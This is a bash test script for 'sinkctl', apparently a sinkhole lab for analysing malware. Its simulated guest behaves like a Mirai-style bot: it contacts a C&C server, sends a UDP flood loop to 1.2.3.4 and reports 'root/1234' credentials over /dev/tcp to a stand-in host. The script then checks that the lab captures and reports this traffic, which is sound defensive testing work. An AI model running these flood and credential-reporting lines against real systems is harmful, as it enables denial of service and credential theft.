#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# Kernels: uml qemu-6.12
# sinkctl run: a guest behind the tap that it makes; its files, its report, its exit status; nothing left, also after a kill.
. "$(dirname "$0")/lib.sh"

modprobe tun 2>/dev/null
[ -e /dev/net/tun ] || skip "no /dev/net/tun"
conf=$WORK/lab.conf
run=$WORK/run
STATE=/run/sinkbridge/$BRIDGE

nothing_left() {
	local left

	left=$(ip netns list | grep "^sb-$BRIDGE-"; ip -br link | grep "^$BRIDGE"; ls -d "$STATE" 2>/dev/null
		pgrep -af -- "--bridge $BRIDGE|sinkctl capture|tapguest")
	[ -z "$left" ] || fail "$1: left over: $left"
}

cat >"$conf" <<END
bridge = "$BRIDGE"
run-directory = "runs"
rules = { "udp dport 53 to dns", "tcp dst 172.1.0.2 dport 23 to cnc", "tcp dport 80 to http",
	"tcp dport 48101 to report", "tcp to sink port 9", "udp to sink port 9" }
server dns { type = "dns" address = "198.18.0.53" answer = "172.1.0.5"
	record "cnc.example" { address = "172.1.0.2" } }
server http { type = "http" address = "198.18.0.80" }
server report { type = "report" address = "198.18.0.48" }
server sink { type = "sink" address = "198.18.0.9" }
server cnc { type = "cnc" address = "198.18.0.66"
	command { after = 0.1 vector = "udp" duration = 5 targets = { "1.2.3.4" } } }
END

# The guest's stack is one end of a veth; tapguest carries the other end's frames to the tap, as a hypervisor does.
cat >"$WORK/guest" <<END
echo "standard output"
read -r line && echo "standard input: \$line"
ip netns add $GUEST_NS
ip netns add $SERVER_NS
for ns in $GUEST_NS $SERVER_NS; do
	ip netns exec \$ns sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
done
ip -n $SERVER_NS link add relay type veth peer name eth0 netns $GUEST_NS
ip -n $SERVER_NS link set relay up
ip -n $GUEST_NS link set lo up
ip -n $GUEST_NS addr add $GUEST_IP/24 dev eth0
ip -n $GUEST_NS link set eth0 up
ip -n $GUEST_NS route add default via 192.168.1.1
tapguest "\$1" relay 3</run/netns/$SERVER_NS >$WORK/tapguest & relay=\$!
for ((i = 0; i < 200; i++)); do
	[ "\$(cat "/sys/class/net/\$1/brport/state")" = 3 ] && grep -q ready $WORK/tapguest && break
	sleep 0.05
done
ip netns exec $GUEST_NS bash $WORK/inside $run/events.jsonl
kill \$relay
wait \$relay
ip netns del $GUEST_NS
ip netns del $SERVER_NS
exit 7
END

cat >"$WORK/inside" <<'END'
set -u
dig +short +tries=5 @11.22.33.44 test.com cnc.example
curl -s -m 20 -A agent -o /dev/null http://22.33.44.55/something
exec 4<>/dev/tcp/172.1.0.2/23
printf '\0\0\0\1\0\0\0' >&4
head -c 16 <&4 | od -An -tx1
exec 5<>/dev/udp/1.2.3.4/477
for ((i = 0; i < 1200; i++)); do
	printf '%0512d' 0 >&5
	((i % 50)) || sleep 0.02
done
exec 6<>/dev/tcp/203.0.113.48/48101
printf '\136\246\242\066\000\027\004root\0041234' >&6
exec 7<>/dev/tcp/198.51.100.7/6667
printf 'NICK \033[31mbot' >&7
exec 6>&- 7>&-
# both have arrived, and were told of
for ((i = 0; i < 600; i++)); do
	grep -q '"password":"1234"' "$1" && grep -q '"dest_port":6667' "$1" && break
	sleep 0.05
done
END

say "the guest does what bots do"
echo "from the terminal" | sinkctl run "$conf" -o "$run" -- bash "$WORK/guest" '{tap}' >"$WORK/out" 2>"$WORK/err"
expect "exit status" $? 7
cat "$WORK/out" "$WORK/err"
nothing_left run
grep -q "^standard output$" "$WORK/out" || fail "no standard output"
grep -q "^standard input: from the terminal$" "$WORK/out" || fail "no standard input"
grep -q "00 00 00 0e 00 00 00 05 00 01 01 02 03 04 20 00" "$WORK/out" || fail "no command from the C&C"

say "its files"
for file in events.jsonl flows.jsonl stats.json run.json report.txt lab.conf rules command.txt; do
	[ -s "$run/$file" ] || fail "$file: not there, or empty"
done
jq -es . "$run/events.jsonl" "$run/flows.jsonl" "$run/stats.json" "$run/run.json" >/dev/null || fail "no JSON"
cmp -s "$conf" "$run/lab.conf" || fail "lab.conf is another"
expect "exit status kept" "$(jq .exit_status "$run/run.json")" 7
expect "command kept" "$(jq -r '.command[-1]' "$run/run.json")" "$BRIDGE-t0"
expect "flows, all of them" "$(jq .flows_created "$run/stats.json")" "$(wc -l <"$run/flows.jsonl")"
flow=$(jq -c 'select(.dest_ip == "1.2.3.4") | [.proto, .dest_port, .server.name]' "$run/flows.jsonl")
expect "the flood" "$flow" '["UDP",477,"sink"]'
expect "the name that led to the C&C" "$(jq -r 'select(.dest_ip == "172.1.0.2") | .dest_name' "$run/flows.jsonl")" cnc.example
expect "in events, too" "$(jq -r 'select(.event_type == "cnc") | .dest_name' "$run/events.jsonl" | sort -u)" cnc.example
# a slow machine may lose some between the guest and the tap, but none behind it
packets=$(jq 'select(.dest_ip == "1.2.3.4") | .flow.pkts_toserver' "$run/flows.jsonl")
[ "$packets" -ge 1000 ] && [ "$packets" -le 1200 ] || fail "the flood has $packets packets, expected 1200"
if command -v tcpdump >/dev/null; then
	expect "not captured" "$(jq .capture.dropped "$run/run.json")" 0
	expect "captured" "$(tcpdump -nr "$run/capture.pcapng" 'udp and dst 1.2.3.4 and dst port 477' 2>/dev/null | wc -l)" "$packets"
	expect "of servers" "$(tcpdump -nr "$run/capture.pcapng" net 198.18.0.0/15 2>/dev/null | wc -l)" 0
fi

say "its report"
tells() { grep -qE -- "$1" "$run/report.txt" || fail "the report does not tell: $1"; }
tells '172\.1\.0\.2:23 \(cnc\.example\) contacted by 192\.168\.1\.100'
tells 'family mirai, id "", registered 1 time, kept alive 1 time, given 1 command'
tells 'udp on 1\.2\.3\.4/32 for 5 s'
tells "1,${packets#1} packets, [0-9,]+ bytes in [0-9.]+ s: [0-9,]+ packets/s, 1 flow"
tells 'test\.com'
tells 'GET /something of 22\.33\.44\.55:80'
tells '94\.166\.162\.54:23  root/1234  reported to 203\.0\.113\.48:48101'
tells 'TCP 198\.51\.100\.7:6667'
grep -q $'\e' "$run/report.txt" && fail "an escape of the guest is in the report"
sinkctl report "$run" | cmp - "$run/report.txt" || fail "another report now"
sinkctl -j report "$run" | jq -e '.credentials[0].password == "1234" and .commands[0].seen.packets == '"$packets" >/dev/null ||
	fail "report as JSON: $(sinkctl -j report "$run")"

say "a report of what is broken"
cp -r "$run" "$WORK/broken"
rm "$WORK/broken/stats.json"
printf '{"event_type":"dns",\n\0\377\n[]\n' >>"$WORK/broken/events.jsonl"
sinkctl report "$WORK/broken" >"$WORK/out" || fail "report of a broken run"
grep -q 'stats.json: not there' "$WORK/out" || fail "a missing file is not told of"
grep -q 'events.jsonl: 3 lines are broken' "$WORK/out" || fail "broken lines are not told of"
refused "report of no run" sinkctl report "$WORK/nowhere"
refused "report of another folder" sinkctl report /proc

say "bad usage makes nothing"
refused "folder that exists" sinkctl run "$conf" -o "$run" -- true
grep -q 'expected a new folder' "$WORK/refused" || fail "not said what was expected"
refused "no command" sinkctl run "$conf"
refused "no lab.conf" sinkctl run -- true
nothing_left "bad usage"
cmp -s "$conf" "$run/lab.conf" || fail "the run that was there is touched"

say "a signal goes to the command, and the lab goes down"
sinkctl run "$conf" -- sh -c 'trap "exit 42" TERM; : >"$SINKBRIDGE_RUN/there"; while :; do sleep 0.1; done' >"$WORK/out" 2>&1 & pid=$!
there() { ls "$WORK"/runs/*/there >/dev/null 2>&1; }
busywait 60 there || fail "the command does not run: $(cat "$WORK/out")"
kill -TERM $pid
wait $pid
expect "exit status" $? 42
nothing_left "signal"

say "a command that is killed, or is not there"
sinkctl run "$conf" -o "$WORK/killed" -- sh -c 'kill -9 $$' >/dev/null 2>&1
expect "exit status" $? 137
expect "signal kept" "$(jq .signal "$WORK/killed/run.json")" 9
sinkctl run "$conf" -o "$WORK/absent" -- /nowhere >/dev/null 2>&1
expect "exit status" $? 127
nothing_left "command"

say "sinkctl itself killed: down ends the rest, the command too"
sinkctl run "$conf" -o "$WORK/lost" -- sh -c ': >"$SINKBRIDGE_RUN/there"; exec sleep 600' >"$WORK/out" 2>&1 & pid=$!
lost() { [ -e "$WORK/lost/there" ] && grep -q '^up$' "$STATE/journal"; }
busywait 60 lost || fail "the command does not run: $(cat "$WORK/out")"
kill -9 $pid
wait $pid 2>/dev/null
sinkctl lab down "$conf" || fail "down after a kill"
pgrep -af '^sleep 600' && fail "the command lives on"
nothing_left "sinkctl killed"
exit 0
